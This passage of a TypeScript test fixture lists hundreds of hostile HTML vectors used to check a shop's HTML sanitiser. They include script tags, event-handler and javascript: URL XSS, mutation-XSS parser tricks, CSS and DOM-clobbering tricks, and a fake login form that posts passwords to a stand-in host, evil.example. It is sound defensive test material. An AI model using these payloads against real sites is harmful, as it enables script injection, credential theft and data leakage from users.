/** HTML that, unsanitised, runs a script, loads from a foreign host or covers the shop. */
export interface HostileVector {
  name: string;
  html: string;
}

/** Sanitised HTML never requests this host or its subdomains. Harmless media use other hosts. */
export const FOREIGN_HOST = 'evil.example';

const scripts: HostileVector[] = [
  { name: 'script', html: '<script>alert(1)</script>' },
  { name: 'script in capitals', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with a slash after its name', html: '<script/x>alert(1)</script>' },
  { name: 'script from a foreign host', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script without protocol', html: '<script src=//evil.example/x.js></script>' },
  { name: 'script from a data address', html: '<script src="data:text/javascript,alert(1)"></script>' },
  { name: 'module script', html: '<script type="module">alert(1)</script>' },
  { name: 'script closed with junk', html: '<script>alert(1)</script\t\n bar>' },
  { name: 'unclosed script', html: '<script>alert(1)//' },
  { name: 'script in a script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script after a stray angle', html: '<<script>alert(1);//<</script>' },
  { name: 'script behind a lone quote', html: '"><script>alert(1)</script>' },
  { name: 'script behind a closing textarea', html: '</textarea><script>alert(1)</script>' },
  { name: 'script behind a closing title and style', html: '</title></style><script>alert(1)</script>' },
  {
    name: 'script with an attribute that holds >',
    html: '<script a=">" src="https://evil.example/a.js"></script>',
  },
  { name: 'script with odd quotes', html: `<script a=\`>\` src="https://evil.example/b.js"></script>` },
  {
    name: 'import map',
    html: `<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script><script type="module">import "a"</script>`,
  },
  {
    name: 'speculation rules',
    html: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>`,
  },
  { name: 'dynamic import', html: '<script>import("data:text/javascript,alert(1)")</script>' },
  { name: 'script in a paragraph in a table', html: '<table><p><script>alert(1)</script></p></table>' },
  {
    name: 'script that swaps the page data',
    html: '<script type="application/json" id="page-data">{"user":1}</script><script>alert(1)</script>',
  },
];

const handlers: HostileVector[] = [
  { name: 'image error', html: '<img src=x onerror=alert(1)>' },
  { name: 'image error between slashes', html: '<img/src="x"/onerror=alert(1)>' },
  { name: 'image error glued to a quote', html: '<img src="x"onerror="alert(1)">' },
  { name: 'image error in capitals', html: '<IMG SRC=x OnErRoR=alert(1)>' },
  {
    name: 'image error written with entities',
    html: '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  },
  {
    name: 'image error in hex without semicolons',
    html: '<img src=x onerror="&#x61&#x6c&#x65&#x72&#x74(1)">',
  },
  {
    name: 'image error with padded entities',
    html: '<img src=x onerror="&#0000097&#0000108&#0000101&#0000114&#0000116(1)">',
  },
  { name: 'image error with &lpar;', html: '<img src=x onerror="alert&lpar;1&rpar;">' },
  { name: 'image error with a unicode escape', html: '<img src=x onerror="\\u0061lert(1)">' },
  { name: 'image error through eval', html: `<img src=x onerror="eval('ale'+'rt(1)')">` },
  { name: 'image error in backquotes', html: '<img src=x onerror=alert`1`>' },
  { name: 'image that does not close', html: '<img src=x onerror=alert(1)//\n<p>' },
  { name: 'image inside a quoted mess', html: '<img """><img src=x onerror=alert(1)>">' },
  { name: 'image called image', html: '<image src=x onerror=alert(1)>' },
  { name: 'image with a line end before the equals sign', html: '<img src=x onerror\n=\nalert(1)>' },
  { name: 'image with a form feed between attributes', html: '<img src=x\fonerror=alert(1)>' },
  {
    name: 'image after a NUL',
    html: '<img\0 src=x onerror=alert(1)><img src=x onerror\0=alert(1)><img src=x onerror=alert(1)>',
  },
  {
    name: 'image load',
    html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=alert(1) onerror=alert(1)>',
  },
  { name: 'srcset error', html: '<img srcset=",x" onerror=alert(1)>' },
  { name: 'picture source error', html: '<picture><source srcset="x"><img onerror="alert(1)"></picture>' },
  { name: 'body load', html: '<body onload=alert(1)>' },
  { name: 'body pageshow', html: '<body onpageshow=alert(1)>' },
  {
    name: 'body merged into the real one',
    html: '<p><body onfocus=alert(1) onresize=alert(1) onhashchange=alert(1)>',
  },
  { name: 'video source error', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'video error', html: '<video src=x onerror=alert(1)></video>' },
  { name: 'video loadstart', html: '<video src="/a.mp4" onloadstart=alert(1)></video>' },
  { name: 'audio error', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'audio source error', html: '<audio><source src=x onerror=alert(1)></audio>' },
  {
    name: 'track error',
    html: '<video src="/a.mp4"><track default src="x" onerror=alert(1) oncuechange=alert(1)></video>',
  },
  { name: 'details toggle', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'link that takes the focus', html: '<a autofocus tabindex=1 onfocus=alert(1)>x</a>' },
  { name: 'input that takes the focus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'select that takes the focus', html: '<select autofocus onfocus=alert(1)></select>' },
  { name: 'textarea that takes the focus', html: '<textarea autofocus onfocus=alert(1)></textarea>' },
  { name: 'button focus', html: '<button autofocus onfocus=alert(1)>x</button>' },
  { name: 'editable box', html: '<div contenteditable onfocus=alert(1) oninput=alert(1)>x</div>' },
  { name: 'marquee start', html: '<marquee onstart=alert(1) loop=1 width=0>x</marquee>' },
  { name: 'keygen', html: '<keygen autofocus onfocus=alert(1)>' },
  { name: 'access key', html: '<p accesskey="x" onclick="alert(1)">x</p>' },
  {
    name: 'popover about to open',
    html: '<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle=alert(1)>y</div>',
  },
  {
    name: 'popover of a hidden input',
    html: '<input type=hidden popover id=pop onbeforetoggle=alert(1)><button popovertarget=pop autofocus>x</button>',
  },
  {
    name: 'dialog',
    html: '<dialog open onclose=alert(1) oncancel=alert(1)><form method=dialog><button>x</button></form></dialog>',
  },
  {
    name: 'content visibility',
    html: '<div style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</div>',
  },
  {
    name: 'animation start',
    html: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">x</b>',
  },
  {
    name: 'prefixed animation',
    html: '<style>@keyframes x{}</style><b style="animation:x 1ms" onwebkitanimationend="alert(1)" onanimationend="alert(1)">x</b>',
  },
  {
    name: 'transition end',
    html: '<a id=x style="transition:color 1ms" ontransitionend=alert(1) ontransitionrun=alert(1) href="#x">x</a>',
  },
  {
    name: 'pointer lock of a custom element',
    html: '<x-card onpointerover=alert(1) onclick=alert(1)>x</x-card>',
  },
  { name: 'unknown element', html: '<xss onmouseover=alert(1) tabindex=1>x</xss>' },
  { name: 'object error', html: '<object data="x" onerror=alert(1) onload=alert(1)></object>' },
  { name: 'iframe load', html: '<iframe onload=alert(1)></iframe>' },
  { name: 'style load', html: '<style onload=alert(1)></style>' },
  { name: 'link error', html: '<link rel=stylesheet href=x onerror=alert(1) onload=alert(1)>' },
  { name: 'frameset', html: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>' },
];

/** Handlers that any element may have; events of a visitor or of the test trigger them. */
const everyHandler: HostileVector[] = `
  onabort onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut
  onbeforeinput onbeforematch onbeforepaste onbeforetoggle onblur oncancel oncanplay onchange onclick onclose oncommand
  oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart
  ondrop onemptied onended onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture oninput
  oninvalid onkeydown onkeypress onkeyup onload onloadedmetadata onmousedown onmouseenter onmouseleave onmousemove
  onmouseout onmouseover onmouseup onmousewheel onpaste onpause onplay onplaying onpointercancel onpointerdown
  onpointerenter onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onprogress onreset onscroll
  onscrollend onsearch onsecuritypolicyviolation onselect onselectionchange onselectstart onslotchange onsubmit
  ontimeupdate ontoggle ontouchstart ontransitionend onvolumechange onwebkittransitionend onwheel
`
  .trim()
  .split(/\s+/)
  .map(handler => ({
    name: `a box with ${handler}`,
    html: `<div tabindex="0" ${handler}="alert(1)">x</div>`,
  }));

const addresses: HostileVector[] = [
  { name: 'javascript link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'javascript link in capitals', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'javascript link after spaces', html: '<a href="  \t\n javascript:alert(1)">x</a>' },
  {
    name: 'javascript link after a control character',
    html: '<a href="\u0001\u001fjavascript:alert(1)">x</a>',
  },
  {
    name: 'javascript link after an entity for a control character',
    html: '<a href="&#1;&#x0d;javascript:alert(1)">x</a>',
  },
  { name: 'javascript link with a tab', html: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'javascript link with line ends', html: '<a href="j\na\nv\nascript\r:alert(1)">x</a>' },
  {
    name: 'javascript link with &Tab; and &NewLine;',
    html: '<a href="j&Tab;ava&NewLine;script&colon;alert&lpar;1&rpar;">x</a>',
  },
  {
    name: 'javascript link in decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'javascript link in hex entities',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  },
  { name: 'javascript link in padded entities', html: '<a href="&#0000106avascript:alert(1)">x</a>' },
  {
    name: 'javascript link with a NUL',
    html: '<a href="java\0script:alert(1)">x</a><a href="javascript&#0;:alert(1)">x</a>',
  },
  {
    name: 'javascript link that looks like http',
    html: '<a href="javascript://www.vitrine.cn/%0Aalert(1)">x</a>',
  },
  { name: 'javascript link in a new window', html: '<a href="javascript:alert(1)" target="_self">x</a>' },
  { name: 'javascript link twice', html: '<a href="javascript:alert(1)" href="/ok">x</a>' },
  { name: 'javascript link without quotes', html: '<a href=javascript:alert(1)>x</a>' },
  { name: 'javascript link in backquotes', html: '<a href=`javascript:alert(1)`>x</a>' },
  { name: 'javascript link with percent signs', html: '<a href="javascript:%61lert(1)">x</a>' },
  { name: 'javascript link with a comment', html: '<a href="java<!-- -->script:alert(1)">x</a>' },
  {
    name: 'javascript link with unicode blanks',
    html: '<a href="\u00a0\u2003javascript:alert(1)">x</a><a href="\ufeffjavascript:alert(1)">x</a>',
  },
  { name: 'javascript link with a wide colon', html: '<a href="javascript\uff1aalert(1)">x</a>' },
  { name: 'javascript link with a long s', html: '<a href="java\u017fcript:alert(1)">x</a>' },
  { name: 'view-source link', html: '<a href="view-source:javascript:alert(1)">x</a>' },
  { name: 'feed link', html: '<a href="feed:javascript:alert(1)">x</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'livescript and mocha links',
    html: '<a href="livescript:alert(1)">x</a><a href="mocha:alert(1)">x</a>',
  },
  { name: 'data link', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  {
    name: 'data link in base64',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  {
    name: 'blob and filesystem links',
    html: '<a href="blob:https://evil.example/1">x</a><a href="filesystem:https://evil.example/1">x</a>',
  },
  { name: 'file link', html: '<a href="file:///etc/passwd">x</a><a href="file://evil.example/x">x</a>' },
  { name: 'ping', html: '<a href="#x" ping="https://evil.example/ping">x</a>' },
  { name: 'javascript image', html: '<img src="javascript:alert(1)"><img src="jav&#x0A;ascript:alert(1);">' },
  {
    name: 'old image addresses',
    html: '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" longdesc="javascript:alert(1)">',
  },
  {
    name: 'svg image in a data address',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>" onload=alert(1)>`,
  },
  { name: 'javascript in a srcset', html: '<img srcset="javascript:alert(1) 1x, //evil.example/a.jpg 2x">' },
  {
    name: 'data in a srcset',
    html: '<img srcset="data:image/svg+xml;base64,PHN2Zy8+ 1x, https://evil.example\\@cdn.example/a.jpg 2x">',
  },
  { name: 'javascript poster', html: '<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>' },
  {
    name: 'image without protocol',
    html: '<img src="//evil.example/a.jpg"><img src="/\\evil.example/a.jpg"><img src="\\\\evil.example\\a.jpg">',
  },
  {
    name: 'image without protocol through a tab',
    html: '<img src="/\t/evil.example/a.jpg"><img src="/&#10;/evil.example/a.jpg">',
  },
  {
    name: 'image with one slash',
    html: '<img src="https:/evil.example/a.jpg"><img src="https:evil.example/a.jpg">',
  },
  {
    name: 'background attributes',
    html: '<body background="https://evil.example/a.jpg"><table background="https://evil.example/b.jpg"><tr><td background="javascript:alert(1)">',
  },
  {
    name: 'image map',
    html: '<img src="/a.jpg" usemap="#m" width=50 height=50><map name=m><area shape=default href="javascript:alert(1)"></map>',
  },
  { name: 'isindex', html: '<isindex type=image src=x onerror=alert(1) action=javascript:alert(1)>' },
];

const frames: HostileVector[] = [
  { name: 'javascript iframe', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'javascript iframe with &Tab;', html: '<iframe src="j&Tab;a&Tab;vascript:alert(1)"></iframe>' },
  { name: 'srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  {
    name: 'srcdoc in entities',
    html: '<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;"></iframe>',
  },
  { name: 'data iframe', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
  { name: 'iframe from a foreign host', html: '<iframe src="https://evil.example/"></iframe>' },
  {
    name: 'iframe that holds an image',
    html: '<iframe><img src=x onerror=alert(1)></iframe><iframe></iframe><img src=x onerror=alert(1)>',
  },
  { name: 'object', html: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { name: 'object with a javascript address', html: '<object data="javascript:alert(1)"></object>' },
  {
    name: 'object with parameters',
    html: '<object type="text/x-scriptlet" data="https://evil.example/x.html"><param name="url" value="javascript:alert(1)"></object>',
  },
  {
    name: 'embed',
    html: '<embed src="javascript:alert(1)"><embed src="data:text/html,<script>alert(1)</script>">',
  },
  {
    name: 'embed with script access',
    html: '<embed code="https://evil.example/x.swf" allowscriptaccess=always>',
  },
  {
    name: 'applet',
    html: '<applet code="javascript:alert(1)" archive="https://evil.example/x.jar"></applet>',
  },
  {
    name: 'portal and fenced frame',
    html: '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  {
    name: 'meta refresh to a data address',
    html: '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  },
  {
    name: 'meta cookie and policy',
    html: `<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src 'none'"><meta name="referrer" content="unsafe-url">`,
  },
  { name: 'base', html: '<base href="https://evil.example/"><script src="x.js"></script><img src="x.jpg">' },
  {
    name: 'base with a target',
    html: '<base target="alert(1)"><a href="/">x</a><base href="javascript:alert(1)//">',
  },
  {
    name: 'style sheet from a foreign host',
    html: '<link rel="stylesheet" href="https://evil.example/x.css">',
  },
  {
    name: 'preload and prefetch',
    html: '<link rel="preload" as="script" href="https://evil.example/x.js"><link rel="modulepreload" href="https://evil.example/m.js"><link rel="prefetch" href="https://evil.example/p">',
  },
  {
    name: 'html import and manifest',
    html: '<link rel="import" href="https://evil.example/x.html"><link rel="manifest" href="https://evil.example/m.json">',
  },
];

const forms: HostileVector[] = [
  { name: 'form action', html: '<form action="javascript:alert(1)"><button>x</button></form>' },
  { name: 'formaction', html: '<form><button formaction="javascript:alert(1)">x</button></form>' },
  {
    name: 'formaction of an image button',
    html: '<form><input type="image" src="x" formaction="javascript:alert(1)" onerror="alert(1)"></form>',
  },
  {
    name: 'button of a form elsewhere',
    html: '<form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button>',
  },
  {
    name: 'fake login',
    html: '<form action="https://evil.example/steal"><input name="password" type="password" autocomplete="current-password"><button>登录</button></form>',
  },
  {
    name: 'unclosed form that swallows the following fields',
    html: '<form action="https://evil.example/"><input type="submit"><textarea name="rest">',
  },
  {
    name: 'form in a form',
    html: '<form><div></form><form onsubmit=alert(1)><button>x</button></form></div></form>',
  },
  {
    name: 'select that drops its markup',
    html: '<select><option></select><script>alert(1)</script><img src=x onerror=alert(1)></select>',
  },
  {
    name: 'option with escaped markup',
    html: '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select><img src=x onerror=alert(1)>',
  },
  {
    name: 'output and label',
    html: '<label for=x onclick=alert(1)>x</label><output onclick=alert(1)>y</output>',
  },
  { name: 'dangling image', html: `<img src='https://cdn.example/?` },
  { name: 'dangling link', html: `<a href='https://evil.example/?<b>secret</b>` },
];

const foreign: HostileVector[] = [
  { name: 'svg load', html: '<svg onload=alert(1)>' },
  { name: 'svg load after a slash', html: '<svg/onload=alert(1)//>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg script in entities', html: '<svg><script>&#97;lert(1)</script></svg>' },
  {
    name: 'svg script from a data address',
    html: '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  },
  { name: 'svg script through xlink', html: '<svg><script xlink:href="data:,alert(1)"></script></svg>' },
  {
    name: 'svg link',
    html: '<svg><a xlink:href="javascript:alert(1)"><rect width="50" height="50"/><text y="20">x</text></a></svg>',
  },
  {
    name: 'svg link that an animation fills in',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  },
  {
    name: 'svg link that set fills in',
    html: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  },
  { name: 'svg animation begins', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>' },
  { name: 'svg animation ends', html: '<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>' },
  { name: 'svg image', html: '<svg><image href="x" onerror="alert(1)"/></svg>' },
  {
    name: 'svg use',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/><image href=x onerror=alert(1) /></svg>`,
  },
  {
    name: 'svg foreign object',
    html: '<svg><foreignObject><iframe onload="alert(1)"></iframe></foreignObject></svg>',
  },
  { name: 'svg title', html: '<svg><title><img src=x onerror=alert(1)></title></svg>' },
  {
    name: 'svg desc with a style',
    html: '<svg><desc><style></desc><img src=x onerror=alert(1)></style></desc></svg><img src=x onerror=alert(1)>',
  },
  {
    name: 'svg discard and handler',
    html: '<svg><handler type="text/ecmascript">alert(1)</handler><discard onbegin=alert(1) /><set onbegin=alert(1) attributeName=x /></svg>',
  },
  { name: 'svg style', html: '<svg><style>@import "https://evil.example/s.css";</style></svg>' },
  {
    name: 'svg in another namespace',
    html: '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script><svg:svg onload=alert(1) onclick=alert(1)>x</svg:svg>',
  },
  { name: 'svg CDATA', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  {
    name: 'svg CDATA that ends early',
    html: '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  },
  {
    name: 'math link',
    html: '<math href="javascript:alert(1)">x</math><math><a xlink:href="javascript:alert(1)">x</a></math>',
  },
  {
    name: 'math maction',
    html: '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)" onclick=alert(1)>x</maction></math>',
  },
  { name: 'math script', html: '<math><mtext><script>alert(1)</script></mtext></math>' },
  {
    name: 'math annotation',
    html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  },
  {
    name: 'math annotation of the wrong kind',
    html: '<math><annotation-xml><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  },
  { name: 'math style', html: '<math><style><img src=x onerror=alert(1)></style></math>' },
];

const mutations: HostileVector[] = [
  {
    name: 'noscript with a quoted end tag',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: 'style with a quoted end tag',
    html: '<style><a title="</style><img src=x onerror=alert(1)>"></style>',
  },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>' },
  {
    name: 'declarative shadow root',
    html: '<div><template shadowrootmode="open"><img src=x onerror=alert(1)><slot></slot></template>x</div>',
  },
  { name: 'xmp', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  {
    name: 'noembed and noframes',
    html: '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  },
  { name: 'textarea', html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  { name: 'title', html: '<title><p title="</title><img src=x onerror=alert(1)>"></title>' },
  { name: 'plaintext', html: '<img src=x onerror=alert(1)><plaintext><img src=x onerror=alert(1)>' },
  {
    name: 'mglyph in a table',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  },
  {
    name: 'mglyph in a form',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  },
  {
    name: 'malignmark',
    html: '<math><mtext><mglyph><malignmark><style><img src=x onerror=alert(1)></style></malignmark></mglyph></mtext></math>',
  },
  { name: 'svg paragraph style', html: '<svg></p><style><g title="</style><img src=x onerror=alert(1)>">' },
  {
    name: 'svg in math in svg',
    html: '<svg><mi></svg><math><mi><style><!--</style><img src=x onerror=alert(1)>--></mi></math>',
  },
  {
    name: 'select in math',
    html: '<math><mi><select><style></select><img src=x onerror=alert(1)></style></mi></math>',
  },
  { name: 'option style', html: '<option><style></option></select><img src=x onerror=alert(1)></style>' },
  {
    name: 'foreign object that breaks out',
    html: '<svg><foreignObject><math><mi><p><svg><style><a title="</style><img src=x onerror=alert(1)>">',
  },
  {
    name: 'annotation that breaks out',
    html: '<math><annotation-xml encoding="text/html"><svg></math><style></annotation-xml><img src=x onerror=alert(1)></style>',
  },
  { name: 'comment that ends with --!>', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
  {
    name: 'comment that ends immediately',
    html: '<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>-->',
  },
  { name: 'comment in a comment', html: '<!-- <!-- --><img src=x onerror=alert(1)> -->' },
  {
    name: 'bogus comments',
    html: '<? foo="><script>alert(1)</script>"><! foo="><img src=x onerror=alert(1)>"></ foo="><img src=x onerror=alert(1)>">',
  },
  {
    name: 'comment in an attribute',
    html: '<p title="--><img src=x onerror=alert(1)>"><!-- </p><p title="--><img src=x onerror=alert(1)>">',
  },
  {
    name: 'conditional comment',
    html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE]><script>alert(1)</script><![endif]>',
  },
  {
    name: 'CDATA outside svg',
    html: '<![CDATA[><img src=x onerror=alert(1)>]]><a><![CDATA[<script>alert(1)</script>]]></a>',
  },
  {
    name: 'doctype',
    html: '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;<img src=x onerror=alert(1)>',
  },
  {
    name: 'processing instruction',
    html: '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><script>alert(1)</script>',
  },
  {
    name: 'data island',
    html: '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html onclick=alert(1)>x</span>',
  },
  {
    name: 'escaped twice',
    html: '&lt;img src=x onerror=alert(1)&gt;&amp;lt;script&amp;gt;alert(1)<i onclick=alert(1)>x</i>',
  },
  { name: 'name that becomes a tag', html: '<a<img src=x onerror=alert(1)>' },
  {
    name: 'attribute that holds a tag',
    html: '<p =><img src=x onerror=alert(1)>"><a <script>alert(1)</script>',
  },
  {
    name: 'attribute name with quotes',
    html: `<img src=x "onerror='alert(1)'" onerror=alert(1) 'x><b ="><script>alert(1)</script>">`,
  },
  {
    name: 'table with foster-parented text',
    html: '<table><tr><td><table><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)></table></table></table>',
  },
  {
    name: 'paragraph in a paragraph',
    html: '<p><b><div></p><i onclick=alert(1)>x</b></div></i><li></ul></div></div></div></body></html><img src=x onerror=alert(1)>',
  },
  {
    name: 'end tags of elements outside',
    html: '</div></section></main></body></html><script>alert(1)</script></p></br><li>x<td>y<tr>z',
  },
  {
    name: 'prototype names',
    html: '<__proto__ onclick=alert(1)>x</__proto__><constructor onclick=alert(1)>x</constructor><a __proto__=x constructor=y hasOwnProperty=z onclick=alert(1)>x</a>',
  },
  { name: 'deep nesting', html: `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>` },
  {
    name: 'many formatting elements',
    html: `${'<a><b><i><u>'.repeat(40)}<div></b></i></a><img src=x onerror=alert(1)>`,
  },
];

const styles: HostileVector[] = [
  {
    name: 'style expression',
    html: '<p style="width:expression(alert(1))">x</p><p style="width:e/**/xpression(alert(1))">x</p>',
  },
  {
    name: 'style expression with escapes',
    html: '<p style="width:\\65xpression(alert(1));xss:e\\xpression(alert(1))">x</p>',
  },
  { name: 'style binding', html: '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>' },
  { name: 'style behaviour', html: '<p style="behavior:url(https://evil.example/x.htc)">x</p>' },
  {
    name: 'style with a javascript address',
    html: '<p style="background-image:url(javascript:alert(1))">x</p><p style="list-style-image:url(&quot;javascript:alert(1)&quot;)">x</p>',
  },
  {
    name: 'style with a foreign picture',
    html: '<p style="background:url(https://evil.example/a.png)">x</p>',
  },
  {
    name: 'style with a picture without protocol',
    html: `<p style="background:url('//evil.example/a.png')">x</p><p style="background:URL(//evil.example/b.png)">x</p>`,
  },
  {
    name: 'style with an escaped url',
    html: '<p style="background:u\\72l(https://evil.example/a.png)">x</p><p style="background:\\000075rl(https://evil.example/b.png)">x</p>',
  },
  {
    name: 'style with an image set',
    html: `<p style="background:image-set('https://evil.example/a.png' 1x)">x</p><p style="background:-webkit-image-set(url(https://evil.example/b.png) 1x)">x</p>`,
  },
  {
    name: 'style with cross-fade and src',
    html: '<p style="background:cross-fade(url(https://evil.example/a.png),red);mask:src(\'https://evil.example/b.png\')">x</p>',
  },
  {
    name: 'style that smuggles through a custom property',
    html: '<p style="--x:url(https://evil.example/a.png);background:var(--x)">x</p>',
  },
  {
    name: 'style through a list, a cursor, a border and content',
    html: '<p style="display:list-item;list-style:url(https://evil.example/a.png);border-image:url(https://evil.example/b.png) 1;cursor:url(https://evil.example/c.png),auto">x</p>',
  },
  {
    name: 'style that holds an at rule',
    html: `<p style="@import 'https://evil.example/x.css';color:red;}@import url(https://evil.example/y.css);{">x</p>`,
  },
  { name: 'style sheet that imports', html: '<style>@import url(https://evil.example/x.css);</style>' },
  {
    name: 'style sheet that reads attributes',
    html: '<style>*{background:url(https://evil.example/leak)}</style><input value=a>',
  },
  {
    name: 'style sheet that loads a font',
    html: '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}p{font-family:x}</style><p>x</p>',
  },
  {
    name: 'style that covers the shop',
    html: '<a href="https://evil.example/" style="position:fixed;inset:0;z-index:99999;background:#fff">登录</a><i onclick=alert(1)>x</i>',
  },
  {
    name: 'style that covers, spelt oddly',
    html: '<div style="POSITION : FIXED ; top:0"></div><div style="position:/**/fixed"></div><div style="position:-webkit-sticky;position:sticky"></div><i onclick=alert(1)>x</i>',
  },
  {
    name: 'style that covers, in escapes',
    html: '<div style="p\\6fsition:fixed;inset:0;position:\\66ixed">x</div><i onclick=alert(1)>x</i>',
  },
  {
    name: 'style that covers by shift and shadow',
    html: '<div style="transform:translateY(-500px);margin-top:-900px;box-shadow:0 0 0 9999px #fff;outline:9999px solid #fff">x</div><i onclick=alert(1)>x</i>',
  },
  {
    name: 'style that breaks out of its quotes',
    html: `<p style='color:red"><img src=x onerror=alert(1)>'>x</p><p style="font-family:'&quot;><img src=x onerror=alert(1)>'">x</p><img src=x onerror=alert(1)>`,
  },
  {
    name: 'style with a string left open',
    html: `<p style="font-family:'a;background:url(https://evil.example/a.png);b'">x</p><p style="color:red;x:';background:url(https://evil.example/b.png)">y</p><p style="background:url(https://evil.example/c.png)">z</p>`,
  },
];

const clobbering: HostileVector[] = [
  {
    name: 'id that names a global',
    html: '<a id="config" href="https://evil.example/x.js">x</a><script>alert(1);window.config</script>',
  },
  {
    name: 'ids that make a collection',
    html: '<a id=config><a id=config name=url href="https://evil.example/x.js">x</a></a><i onclick=alert(1)>x</i>',
  },
  {
    name: 'id of the page data',
    html: '<div id="page-data">{"blocks":{}}</div><div id="root"></div><div id="app"></div><i onclick=alert(1)>x</i>',
  },
  {
    name: 'name of the cookie',
    html: '<img name="cookie" src="/a.jpg"><img name=getElementById src=x onerror=alert(1)><form name=body></form>',
  },
  {
    name: 'form that hides its own members',
    html: '<form onclick=alert(1)><input name=attributes><input name=parentNode><input name=nodeName></form>',
  },
  {
    name: 'current script',
    html: '<img name=currentScript src="/a.jpg"><a id=defaultView href="https://evil.example/">x</a><object name=defaultView></object><i onclick=alert(1)>x</i>',
  },
  {
    name: 'ids with strange characters',
    html: `<p id="a b" onclick=alert(1)>x</p><p id="__proto__">x</p><p id="constructor">x</p><p id="1">x</p><p id="x'onclick=alert(1)">x</p>`,
  },
  {
    name: 'hooks of other scripts',
    html: '<div data-bind="attr:{onclick:alert(1)}" ng-app ng-init="alert(1)" v-html="alert(1)" x-data x-init="alert(1)" hx-on:click="alert(1)" @click="alert(1)" is="x-y" slot="a" part="b" nonce="c" onclick=alert(1)>{{constructor.constructor("alert(1)")()}}</div>',
  },
];

const polyglots: HostileVector[] = [
  {
    name: 'polyglot of many contexts',
